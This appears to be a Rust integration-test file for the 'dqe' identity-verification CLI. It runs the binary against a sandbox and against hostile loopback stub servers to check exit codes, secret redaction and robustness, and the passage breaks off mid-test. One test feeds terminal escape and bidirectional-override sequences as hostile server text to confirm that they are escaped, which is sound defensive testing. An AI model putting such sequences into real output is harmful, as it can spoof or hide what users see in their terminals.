//! The `dqe` binary, run as a subprocess against the sandbox and against hostile stand-in
//! servers on loopback: every scenario number gives the documented error and exit code 2,
//! `demo` prints an identity, bad usage, missing secrets, unreachable servers and replies that
//! are not what DQE sends give their exit codes and a one-line message; server text reaches
//! the terminal escaped; secrets never reach the output; nothing panics.
#![cfg(feature = "cli")]

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::{Command, Output, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use dqe_client::endpoint::{ParamSource, ValueKind};
use dqe_client::sandbox::{
    DEFAULT_CLIENT_SECRET, DEFAULT_LICENCE, Sandbox, SandboxConfig, scenarios,
};
use dqe_client::{
    AccessTokenReply, AccessTokenRequest, AccessTokenSuccess, Formfilling, InitiateReply,
    InitiateRequest, InitiateSuccess, List, RetrieveError, RetrieveReply, RetrieveRequest,
    RetrieveSuccess, Scope,
};

fn dqe(server: Option<&str>, args: &[&str]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_dqe"));
    c.args(args)
        .env_remove("DQE_SERVER")
        .env("DQE_LICENCE", DEFAULT_LICENCE)
        .env("DQE_CLIENT_SECRET", DEFAULT_CLIENT_SECRET);
    if let Some(s) = server {
        c.env("DQE_SERVER", s);
    }
    c.output().expect("the binary runs")
}

fn text(o: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

/// Runs a command to its end, killing it (and failing) past `limit`: a command that hangs
/// fails the test instead of blocking it.
fn within(mut command: Command, limit: Duration) -> Output {
    let mut child = command
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the binary runs");
    let drain = |mut r: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut buf = Vec::new();
            let _ = r.read_to_end(&mut buf);
            buf
        })
    };
    let stdout = drain(Box::new(child.stdout.take().unwrap()));
    let stderr = drain(Box::new(child.stderr.take().unwrap()));
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            let args: Vec<_> = command.get_args().collect();
            panic!("dqe {args:?} did not end within {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    Output {
        status,
        stdout: stdout.join().unwrap(),
        stderr: stderr.join().unwrap(),
    }
}

async fn sandbox() -> Sandbox {
    let config = SandboxConfig {
        auto_approve: true,
        pending_time: Duration::ZERO,
        ..SandboxConfig::default()
    };
    Sandbox::start(config, SocketAddr::from(([127, 0, 0, 1], 0)))
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn every_scenario_number_exits_2_with_its_error() {
    let s = sandbox().await;
    let url = s.url().to_owned();
    let list = scenarios();
    let outputs = tokio::task::spawn_blocking(move || {
        list.into_iter()
            .map(|(number, step, id, text)| {
                let o = dqe(
                    Some(&url),
                    &[
                        "flow", "--number", &number, "--name", "ACME", "--wait", "20",
                    ],
                );
                (number, step, id, text, o)
            })
            .collect::<Vec<_>>()
    })
    .await
    .unwrap();
    for (number, _, id, error_text, o) in outputs {
        let (_, err) = text(&o);
        assert_eq!(o.status.code(), Some(2), "{number}: {err}");
        assert_eq!(
            err.trim(),
            format!("dqe: error {id}: {error_text}"),
            "{number}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn initiate_then_retrieve_with_json() {
    let s = sandbox().await;
    let url = s.url().to_owned();
    tokio::task::spawn_blocking(move || {
        let o = dqe(
            Some(&url),
            &[
                "--json",
                "initiate",
                "--number",
                "0612345678",
                "--name",
                "ACME",
            ],
        );
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(0), "{err}");
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v["operator"], "Orange");
        let flow = v["flow"].to_string();
        let o = dqe(
            Some(&url),
            &[
                "--json", "--method", "get", "retrieve", "--flow", &flow, "--wait", "10",
            ],
        );
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(0), "{err}");
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v["status"], "success");
        assert_eq!(v["formfilling"]["phone_number"], "0612345678");

        let o = dqe(
            Some(&url),
            &[
                "--json",
                "initiate",
                "--number",
                "0619100016",
                "--name",
                "ACME",
            ],
        );
        let (out, _) = text(&o);
        assert_eq!(o.status.code(), Some(2));
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v["error_id"], "16");
        assert_eq!(v["error_type"], "operator Orange unreachable");
    })
    .await
    .unwrap();
}

#[test]
fn demo_prints_an_identity() {
    let o = dqe(None, &["demo"]);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    assert!(out.contains("operator: Orange"), "{out}");
    assert!(out.contains("family_name: "), "{out}");
    assert!(out.contains("given_name: "), "{out}");
    assert!(out.contains("status: success"), "{out}");
}

#[test]
fn usage_and_configuration_errors_exit_1_with_one_line() {
    let o = dqe(None, &["flow", "--number", "0612345678", "--name", "ACME"]);
    let (_, err) = text(&o);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    assert!(err.contains("--server"), "{err}");

    let o = Command::new(env!("CARGO_BIN_EXE_dqe"))
        .args(["--server", "http://127.0.0.1:9", "token"])
        .env_remove("DQE_LICENCE")
        .env_remove("DQE_CLIENT_SECRET")
        .output()
        .unwrap();
    let (_, err) = text(&o);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    assert!(err.contains("DQE_LICENCE"), "{err}");

    let o = dqe(Some("http://dqe.example"), &["token"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o).1);

    let o = dqe(None, &["initiate", "--bogus"]);
    assert_eq!(o.status.code(), Some(1));
}

#[test]
fn help_lists_every_exit_code() {
    let o = dqe(None, &["--help"]);
    assert_eq!(o.status.code(), Some(0));
    let (out, _) = text(&o);
    assert!(out.contains("Exit codes"), "{out}");
    for line in [
        "0  success",
        "1  bad usage or configuration",
        "2  DQE answered an error",
        "3  transport failure or timeout",
        "4  the reply was not what DQE sends",
    ] {
        assert!(out.contains(line), "{line:?} missing from:\n{out}");
    }
}

#[test]
fn secrets_come_from_a_file_too_and_are_never_printed() {
    let dir = temp_dir("file");
    let file = dir.join("secrets.env");
    std::fs::write(
        &file,
        "# sandbox\nDQE_LICENCE=FILE-LICENCE-77\nexport DQE_CLIENT_SECRET=\"FILE-SECRET-88\"\n",
    )
    .unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_dqe"))
        .args(["--server", "http://127.0.0.1:9", "--secrets-file"])
        .arg(&file)
        .arg("token")
        .env_remove("DQE_LICENCE")
        .env_remove("DQE_CLIENT_SECRET")
        .output()
        .unwrap();
    let (out, err) = text(&o);
    // The secrets were read (the failure is the connection), and not printed.
    assert_eq!(o.status.code(), Some(3), "{err}");
    assert!(err.contains("could not connect"), "{err}");
    for s in ["FILE-LICENCE-77", "FILE-SECRET-88"] {
        assert!(!out.contains(s) && !err.contains(s));
    }
}

/// A fresh directory for this test's files.
fn temp_dir(name: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("dqe-cli-{}-{name}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_file_quotes_are_stripped_and_a_shared_file_is_warned_about() {
    let (licence, secret) = ("QUOTED-LICENCE-61", "QUOTED-SECRET-62");
    let config = SandboxConfig {
        accounts: vec![(licence.to_owned(), secret.to_owned())],
        ..SandboxConfig::default()
    };
    let s = Sandbox::start(config, SocketAddr::from(([127, 0, 0, 1], 0)))
        .await
        .unwrap();
    let url = s.url().to_owned();
    tokio::task::spawn_blocking(move || {
        let file = temp_dir("quotes").join("secrets.env");
        std::fs::write(
            &file,
            format!("DQE_LICENCE='{licence}'\nexport DQE_CLIENT_SECRET=\"{secret}\"\n"),
        )
        .unwrap();
        let token = |file: &std::path::Path| {
            let mut c = Command::new(env!("CARGO_BIN_EXE_dqe"));
            c.args(["--server", &url, "--secrets-file"])
                .arg(file)
                .arg("token")
                .env_remove("DQE_LICENCE")
                .env_remove("DQE_CLIENT_SECRET");
            within(c, Duration::from_secs(30))
        };
        #[cfg(unix)]
        let set_mode = |mode: u32| {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&file, std::fs::Permissions::from_mode(mode)).unwrap();
        };

        // Private: both quote styles are stripped (the sandbox knows the values without
        // quotes), and nothing is said.
        #[cfg(unix)]
        set_mode(0o600);
        let o = token(&file);
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(0), "{err}");
        assert!(!out.trim().is_empty());
        #[cfg(unix)]
        assert_eq!(err, "", "a private file gets no warning");
        for s in [licence, secret] {
            assert!(!out.contains(s) && !err.contains(s), "{s} printed");
        }

        // Readable by the group, or by everyone: a warning naming the file, and it still works.
        #[cfg(unix)]
        for mode in [0o640, 0o644] {
            set_mode(mode);
            let o = token(&file);
            let (out, err) = text(&o);
            assert_eq!(o.status.code(), Some(0), "{err}");
            assert_eq!(err.lines().count(), 1, "{err}");
            assert!(err.contains("warning"), "{err}");
            assert!(err.contains(&file.display().to_string()), "{err}");
            assert!(err.contains(&format!("{mode:03o}")), "{err}");
            for s in [licence, secret] {
                assert!(!out.contains(s) && !err.contains(s), "{s} printed");
            }
        }
    })
    .await
    .unwrap();
}

#[test]
fn an_unreachable_server_exits_3() {
    let o = dqe(
        Some("http://127.0.0.1:9"),
        &["flow", "--number", "0612345678", "--name", "ACME"],
    );
    let (_, err) = text(&o);
    assert_eq!(o.status.code(), Some(3), "{err}");
    assert_eq!(err.trim().lines().count(), 1, "{err}");
}

/// A `dqe sandbox` process that approves at once, killed when dropped.
struct SandboxProcess {
    child: std::process::Child,
    url: String,
}

impl SandboxProcess {
    fn start() -> Self {
        let mut child = Command::new(env!("CARGO_BIN_EXE_dqe"))
            .args([
                "sandbox",
                "--port",
                "0",
                "--auto-approve",
                "--pending-seconds",
                "0",
            ])
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut first = String::new();
        let mut reader = BufReader::new(child.stdout.take().unwrap());
        reader.read_line(&mut first).unwrap();
        let url = first
            .trim()
            .strip_prefix("DQE sandbox listening on ")
            .unwrap_or_else(|| panic!("unexpected first line: {first}"))
            .to_owned();
        Self { child, url }
    }
}

impl Drop for SandboxProcess {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn the_sandbox_command_serves_a_flow() {
    let sandbox = SandboxProcess::start();
    let o = dqe(
        Some(&sandbox.url),
        &[
            "--json",
            "flow",
            "--number",
            "0622334455",
            "--name",
            "ACME",
            "--wait",
            "10",
        ],
    );
    drop(sandbox);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["formfilling"]["phone_number"], "0622334455");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_closed_stdout_ends_quietly() {
    let config = SandboxConfig {
        auto_approve: true,
        pending_time: Duration::from_millis(500),
        ..SandboxConfig::default()
    };
    let s = Sandbox::start(config, SocketAddr::from(([127, 0, 0, 1], 0)))
        .await
        .unwrap();
    let url = s.url().to_owned();
    tokio::task::spawn_blocking(move || {
        // `dqe flow ... | head -1`: the reader takes the first line and goes away; the
        // identity, printed later, meets a closed pipe.
        let mut child = Command::new(env!("CARGO_BIN_EXE_dqe"))
            .args(["flow", "--number", "0612345678", "--name", "ACME"])
            .env("DQE_SERVER", &url)
            .env("DQE_LICENCE", DEFAULT_LICENCE)
            .env("DQE_CLIENT_SECRET", DEFAULT_CLIENT_SECRET)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut first = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut first)
            .unwrap();
        assert!(first.starts_with("operator: "), "{first}");
        let mut err = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut err)
            .unwrap();
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(0), "{err}");
        assert_eq!(err, "", "a closed stdout is not an error to report");
    })
    .await
    .unwrap();
}

/// The licence and client secret the hostile tests run with.
const LICENCE: &str = "HOSTILE-LICENCE-31";
const SECRET: &str = "HOSTILE-SECRET-42";
/// The token of the flows the hostile tests retrieve, and the token the stand-in issues.
const TOKEN: &str = "HOSTILE-TOKEN-5150";
/// The phone number the hostile tests send.
const NUMBER: &str = "0698765432";

/// A stand-in server on loopback: answers the n-th request with the n-th canned reply (the
/// last one again once they run out), one connection per request, counts requests and keeps
/// their bodies.
struct Stub {
    url: String,
    requests: Arc<AtomicUsize>,
    bodies: Arc<Mutex<Vec<String>>>,
}

impl Stub {
    fn start(replies: Vec<Vec<u8>>) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let requests = Arc::new(AtomicUsize::new(0));
        let bodies = Arc::new(Mutex::new(Vec::new()));
        let count = Arc::clone(&requests);
        let log = Arc::clone(&bodies);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let Ok(body) = read_request(&mut stream) else {
                    continue;
                };
                log.lock().unwrap().push(body);
                let n = count.fetch_add(1, Ordering::SeqCst);
                let reply = &replies[n.min(replies.len() - 1)];
                // The client may stop reading (an oversized body): that is its right.
                let _ = stream.write_all(reply).and_then(|()| stream.flush());
            }
        });
        Self {
            url,
            requests,
            bodies,
        }
    }

    fn requests(&self) -> usize {
        self.requests.load(Ordering::SeqCst)
    }

    /// The form parameters of the n-th request (from 0), by wire name.
    fn form(&self, n: usize) -> Vec<(String, String)> {
        let bodies = self.bodies.lock().unwrap();
        let body = bodies.get(n).map(String::as_str).unwrap_or_default();
        form_urlencoded::parse(body.as_bytes())
            .map(|(k, v)| (k.into_owned(), v.into_owned()))
            .collect()
    }
}

/// Reads one HTTP request: headers, then a body of `Content-Length` bytes; gives the body.
fn read_request(stream: &mut TcpStream) -> std::io::Result<String> {
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    let mut data = Vec::new();
    let mut buf = [0; 4096];
    let head_end = loop {
        let n = stream.read(&mut buf)?;
        if n == 0 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        data.extend_from_slice(&buf[..n]);
        if let Some(i) = data.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
    };
    let head = String::from_utf8_lossy(&data[..head_end]).to_ascii_lowercase();
    let length: usize = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(0);
    while data.len() < head_end + length {
        let n = stream.read(&mut buf)?;
        if n == 0 {
            break;
        }
        data.extend_from_slice(&buf[..n]);
    }
    Ok(String::from_utf8_lossy(&data[head_end..]).into_owned())
}

/// An HTTP/1.1 response.
fn http(status: &str, headers: &str, body: &[u8]) -> Vec<u8> {
    let mut r = format!(
        "HTTP/1.1 {status}\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .into_bytes();
    r.extend_from_slice(body);
    r
}

/// A JSON reply with status 200, as DQE sends them.
fn json_reply(value: &impl serde::Serialize) -> Vec<u8> {
    http(
        "200 OK",
        "Content-Type: application/json\r\n",
        &serde_json::to_vec(value).unwrap(),
    )
}

/// The token reply of the stand-in.
fn token_reply() -> Vec<u8> {
    let mut token = AccessTokenSuccess::default();
    token.access_token = Some(TOKEN.to_owned());
    json_reply(&AccessTokenReply::Success(token))
}

/// A flow (as `dqe initiate` prints it) with the given times.
fn flow_json(started_at: u64, token_expires_at: Option<u64>) -> String {
    let mut flow = serde_json::json!({
        "token": TOKEN,
        "scopes": List::<Scope>::from(Scope::ALL.to_vec()),
        "started_at": started_at,
    });
    if let Some(t) = token_expires_at {
        flow["token_expires_at"] = t.into();
    }
    flow.to_string()
}

fn now_unix() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

/// Runs `dqe` against `server` with the hostile tests' secrets, within a time limit.
fn hostile(server: &str, args: &[&str]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_dqe"));
    c.args(args)
        .env("DQE_SERVER", server)
        .env("DQE_LICENCE", LICENCE)
        .env("DQE_CLIENT_SECRET", SECRET);
    within(c, Duration::from_secs(60))
}

/// No panic, and none of the secrets in the output; the token only where the command prints a
/// flow or a token on stdout by design (`token_on_stdout`).
fn assert_clean(o: &Output, token_on_stdout: bool) {
    let (out, err) = text(o);
    assert_ne!(o.status.code(), Some(101), "panicked: {err}");
    assert!(!err.contains("panicked"), "{err}");
    for s in [LICENCE, SECRET, NUMBER] {
        assert!(
            !out.contains(s) && !err.contains(s),
            "{s} printed:\n{out}\n{err}"
        );
    }
    assert!(!err.contains(TOKEN), "the token printed on stderr: {err}");
    if !token_on_stdout {
        assert!(!out.contains(TOKEN), "the token printed on stdout: {out}");
    }
}

/// No raw control character (new lines aside) nor bidirectional override.
fn assert_no_control(s: &str) {
    assert!(
        !s.chars()
            .any(|c| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c)),
        "a raw control character reached the terminal: {s:?}"
    );
}

#[test]
fn replies_that_are_not_what_dqe_sends_exit_4() {
    let html = b"<!doctype html><title>Proxy login</title>";
    let unknown_status = json_reply(&RetrieveReply::Unrecognized {
        status: Some("maintenance".to_owned()),
    });
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "HTML with status 200",
            http("200 OK", "Content-Type: text/html\r\n", html),
        ),
        ("HTML without a content type", http("200 OK", "", html)),
        ("an unknown status", unknown_status),
        ("HTTP 401, empty", http("401 Unauthorized", "", b"")),
        (
            "HTTP 403, HTML",
            http("403 Forbidden", "Content-Type: text/html\r\n", html),
        ),
        (
            "HTTP 500, HTML",
            http(
                "500 Internal Server Error",
                "Content-Type: text/html\r\n",
                html,
            ),
        ),
        (
            "a redirect",
            http("307 Temporary Redirect", "Location: /elsewhere/\r\n", b""),
        ),
        (
            "a 2 MiB body",
            http(
                "200 OK",
                "Content-Type: application/json\r\n",
                &vec![b' '; 2 << 20],
            ),
        ),
        ("JSON that is not an object", json_reply(&[1, 2, 3])),
    ];
    let flow = flow_json(now_unix(), None);
    for (case, reply) in cases {
        let stub = Stub::start(vec![reply]);
        let o = hostile(&stub.url, &["retrieve", "--flow", &flow]);
        let (_, err) = text(&o);
        assert_eq!(o.status.code(), Some(4), "{case}: {err}");
        assert_eq!(err.trim().lines().count(), 1, "{case}: {err}");
        assert!(err.starts_with("dqe: "), "{case}: {err}");
        assert!(
            !err.contains("Proxy login"),
            "{case}: the body's text printed: {err}"
        );
        assert_eq!(stub.requests(), 1, "{case}: asked more than once");
        assert_clean(&o, false);
    }

    // The token endpoint answering HTML: `token` and `flow` exit 4 too, and step 1 is never
    // sent.
    for args in [
        &["token"][..],
        &["flow", "--number", NUMBER, "--name", "ACME", "--wait", "5"][..],
    ] {
        let stub = Stub::start(vec![http("200 OK", "Content-Type: text/html\r\n", html)]);
        let o = hostile(&stub.url, args);
        let (_, err) = text(&o);
        assert_eq!(o.status.code(), Some(4), "{args:?}: {err}");
        assert_eq!(stub.requests(), 1, "{args:?}");
        assert_clean(&o, false);
    }
}

#[test]
fn a_step_1_that_may_have_reached_dqe_gives_its_flow_and_is_not_sent_again() {
    let html = http(
        "200 OK",
        "Content-Type: text/html\r\n",
        b"<html>Bad gateway</html>",
    );
    for json in [false, true] {
        let stub = Stub::start(vec![token_reply(), html.clone()]);
        let mut args = vec!["flow", "--number", NUMBER, "--name", "ACME", "--wait", "5"];
        if json {
            args.insert(0, "--json");
        }
        let o = hostile(&stub.url, &args);
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(4), "{err}");
        assert_eq!(stub.requests(), 2, "the token, then step 1 once");
        assert!(err.contains("not sent again"), "{err}");
        assert!(err.contains("dqe retrieve --flow"), "{err}");
        // The flow to poll is on stdout, as `initiate` prints it.
        let flow = if json {
            let v: serde_json::Value = serde_json::from_str(&out).unwrap();
            v["flow"].to_string()
        } else {
            out.trim()
                .strip_prefix("flow: ")
                .unwrap_or_else(|| panic!("no flow on stdout: {out}"))
                .to_owned()
        };
        let v: serde_json::Value = serde_json::from_str(&flow).unwrap();
        assert_eq!(v["token"], TOKEN);
        assert_clean(&o, true);
    }
}

#[test]
fn server_text_reaches_the_terminal_escaped() {
    let hostile_text = "\u{1b}[31mred\u{9b}2J\u{202e}";
    let escaped = "\\u{1b}[31mred\\u{9b}2J\\u{202e}";
    let flow = flow_json(now_unix(), None);

    // An error whose type carries escape sequences: escaped on stderr, exit 2.
    let error = RetrieveReply::Error(RetrieveError::from_parts(
        "99".to_owned(),
        hostile_text.to_owned(),
    ));
    let stub = Stub::start(vec![json_reply(&error)]);
    let o = hostile(&stub.url, &["retrieve", "--flow", &flow]);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert_eq!(err.trim(), format!("dqe: error 99: {escaped}"));
    assert_no_control(&out);
    assert_no_control(&err);
    assert_clean(&o, false);

    // With --json, the error as DQE sent it: the same text once decoded, no raw control
    // character on the way.
    let o = hostile(&stub.url, &["--json", "retrieve", "--flow", &flow]);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert_no_control(&out);
    assert_no_control(&err);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v, serde_json::to_value(&error).unwrap());
    assert_clean(&o, false);

    // An identity carrying escape sequences: the user's data, printed whole, escaped.
    let mut identity = Formfilling::default();
    identity.family_name = Some(format!("Evil{hostile_text}"));
    identity.given_name = Some("Line\nbreak\rreturn".to_owned());
    let mut success = RetrieveSuccess::default();
    success.formfilling = Some(Box::new(identity));
    let success = RetrieveReply::Success(success);
    let stub = Stub::start(vec![json_reply(&success)]);
    for json in [false, true] {
        let mut args = vec!["retrieve", "--flow", &flow];
        if json {
            args.insert(0, "--json");
        }
        let o = hostile(&stub.url, &args);
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(0), "{err}");
        assert_no_control(&out);
        assert_no_control(&err);
        if json {
            let v: serde_json::Value = serde_json::from_str(&out).unwrap();
            assert_eq!(v, serde_json::to_value(&success).unwrap());
        } else {
            assert!(out.contains(&format!("Evil{escaped}")), "{out}");
            assert!(out.contains("Line, break\\u{d}return"), "{out}");
        }
        assert_clean(&o, false);
    }

    // An operator carrying escape sequences. (A consent URL holding control characters is
    // refused outright: `a_consent_url_that_is_not_a_web_page_exits_4_without_being_shown`.)
    let mut consent = InitiateSuccess::default();
    consent.operator = Some(format!("Orange{hostile_text}"));
    consent.url = Some("https://consent.example/ok".to_owned());
    let consent = InitiateReply::Success(consent);
    for json in [false, true] {
        let stub = Stub::start(vec![token_reply(), json_reply(&consent)]);
        let mut args = vec!["initiate", "--number", NUMBER, "--name", "ACME"];
        if json {
            args.insert(0, "--json");
        }
        let o = hostile(&stub.url, &args);
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(0), "{err}");
        assert_eq!(stub.requests(), 2);
        assert_no_control(&out);
        assert_no_control(&err);
        if json {
            let v: serde_json::Value = serde_json::from_str(&out).unwrap();
            assert_eq!(v["operator"], format!("Orange{hostile_text}"));
        } else {
            assert!(out.contains(&format!("Orange{escaped}")), "{out}");
            assert!(out.contains("https://consent.example/ok"), "{out}");
        }
        assert_clean(&o, true);
    }
}

#[test]
fn numbers_out_of_range_are_usage_errors() {
    let flow = flow_json(now_unix(), None);
    let huge = u64::MAX.to_string();
    let (flow, huge) = (flow.as_str(), huge.as_str());
    let cases: Vec<Vec<&str>> = vec![
        vec!["retrieve", "--flow", flow, "--wait", huge],
        vec!["retrieve", "--flow", flow, "--wait", "86401"],
        vec!["retrieve", "--flow", flow, "--wait", "0"],
        vec!["flow", "--number", NUMBER, "--name", "ACME", "--wait", huge],
        vec!["sandbox", "--port", "0", "--pending-seconds", huge],
        vec!["sandbox", "--port", "0", "--pending-seconds", "86401"],
        vec!["sandbox", "--port", "0", "--consent-seconds", "0"],
        vec!["sandbox", "--port", "0", "--token-seconds", "86401"],
        vec!["sandbox", "--port", "70000"],
    ];
    for args in cases {
        // An unreachable server: a command that got past its arguments fails otherwise.
        let o = hostile("http://127.0.0.1:9", &args);
        let (_, err) = text(&o);
        assert_eq!(o.status.code(), Some(1), "{args:?}: {err}");
        assert!(err.contains("invalid value"), "{args:?}: {err}");
        assert_clean(&o, false);
    }
    // The bounds themselves are accepted.
    let o = hostile(
        "http://127.0.0.1:9",
        &["retrieve", "--flow", flow, "--wait", "1"],
    );
    assert_eq!(o.status.code(), Some(3), "{}", text(&o).1);
}

#[test]
fn a_flow_with_absurd_times_does_not_panic() {
    let max = u64::MAX;
    let flows = [
        flow_json(max, Some(max)),
        flow_json(0, Some(max)),
        flow_json(max, None),
        flow_json(max - 1, Some(0)),
        // The year 9999: a flow, whose token lives on and on.
        flow_json(0, Some(253_402_300_799)),
    ];
    for flow in &flows {
        for wait in [None, Some("2")] {
            let mut args = vec!["retrieve", "--flow", flow];
            if let Some(w) = wait {
                args.extend(["--wait", w]);
            }
            let o = hostile("http://127.0.0.1:9", &args);
            let (_, err) = text(&o);
            assert!(
                matches!(o.status.code(), Some(1 | 3)),
                "{flow} {wait:?}: {:?} {err}",
                o.status.code()
            );
            assert_eq!(err.trim().lines().count(), 1, "{err}");
            assert_clean(&o, false);
        }
    }
    // A number past u64: not a flow.
    let flow = flow_json(0, None).replace("\"started_at\":0", "\"started_at\":1e30");
    let o = hostile("http://127.0.0.1:9", &["retrieve", "--flow", &flow]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o).1);
}

// ---------------------------------------------------------------------------------------------
// Scopes and their parameters, from the spec at run time.
// ---------------------------------------------------------------------------------------------

/// A `user_infos` file (some keys only: the others are sent empty), as `@PATH`.
fn infos_file(name: &str) -> String {
    let file = temp_dir(name).join("infos.json");
    std::fs::write(
        &file,
        "{\"lastname\": \"Lefèvre\", \"firstname\": \"Zoé\", \"phone\": \"0612345678\"}\n",
    )
    .unwrap();
    format!("@{}", file.display())
}

/// The option of a parameter: its wire name in kebab case.
fn option(wire: &str) -> String {
    let mut out = String::from("--");
    for (i, c) in wire.chars().enumerate() {
        if c == '_' {
            out.push('-');
        } else if c.is_uppercase() {
            if i > 0 {
                out.push('-');
            }
            out.extend(c.to_lowercase());
        } else {
            out.push(c);
        }
    }
    out
}

/// What each scope's result must hold, in `dqe --json flow`'s output.
type Check = fn(&serde_json::Value);

/// Each scope of the "done when", against `dqe sandbox`: `dqe flow` exits 0 and prints
/// the scope's result (in text and in JSON); one-step scopes give no consent URL.
#[test]
fn every_scope_flows_and_prints_its_result() {
    let sandbox = SandboxProcess::start();
    let url = sandbox.url.as_str();
    let infos = infos_file("scopes");
    let infos = infos.as_str();
    let is_score = |v: &serde_json::Value| v.is_number() || v.is_string();
    // (arguments, one step, keys printed, check of the JSON)
    let cases: Vec<(Vec<&str>, bool, &[&str], Check)> = vec![
        (
            vec!["--scope", "simswap", "--period", "24"],
            true,
            &["swapped"],
            // As DQE sends it, a string, and as the sandbox answers it from the spec's example.
            |v| assert_eq!(v["swapped"], "false", "{v}"),
        ),
        (
            vec![
                "--scope",
                "matching_notp",
                "--user-infos",
                infos,
                "--country",
                "FR",
            ],
            true,
            &["family_name", "given_name", "address"],
            |v| {
                let score = &v["family_name"];
                assert!(score.is_number() || score.is_string(), "{v}");
                assert!(v["address"].is_object(), "{v}");
            },
        ),
        (vec!["--scope", "numVerify"], false, &["numVerify"], |v| {
            assert_eq!(v["numVerify"], true, "{v}")
        }),
        (
            vec!["--scope", "matching", "--user-infos", infos],
            false,
            &["matching", "family_name"],
            |v| {
                assert!(v["matching"].is_object(), "{v}");
                assert!(v.get("formfilling").is_none(), "{v}");
            },
        ),
        (
            vec!["--scope", "formfilling,matching", "--user-infos", infos],
            false,
            &["formfilling", "matching"],
            |v| {
                assert_eq!(v["formfilling"]["phone_number"], "0612345678", "{v}");
                assert!(v["matching"].is_object(), "{v}");
            },
        ),
        // The document: its Base64 text with --json, as DQE sends it.
        (vec!["--scope", "billing"], false, &["billing"], |v| {
            let text = v["billing"].as_str().expect("Base64 text");
            let pdf = dqe_client::Document::from_base64(text).expect("Base64");
            assert!(pdf.as_bytes().starts_with(b"%PDF-"), "{v}");
        }),
    ];
    for (extra, one_step, keys, check) in cases {
        let mut args = vec![
            "flow",
            "--number",
            "0612345678",
            "--name",
            "ACME",
            "--wait",
            "20",
        ];
        args.extend(&extra);
        let o = dqe(Some(url), &args);
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(0), "{extra:?}: {err}");
        assert_eq!(
            out.contains("send the customer to: "),
            !one_step,
            "{extra:?}: {out}"
        );
        assert!(out.contains("result:"), "{extra:?}: {out}");
        // A document as its kind and size, never its Base64 text.
        if keys.contains(&"billing") {
            assert!(
                out.lines()
                    .any(|l| l.trim_start().starts_with("billing: <document: PDF, ")
                        && l.ends_with(" bytes>")),
                "{out}"
            );
            assert!(!out.contains("JVBERi0"), "{out}");
        }
        for key in keys {
            assert!(
                out.lines()
                    .any(|l| l.trim_start().starts_with(&format!("{key}:"))),
                "{extra:?}: no {key} in\n{out}"
            );
        }

        args.insert(0, "--json");
        let o = dqe(Some(url), &args);
        let (out, err) = text(&o);
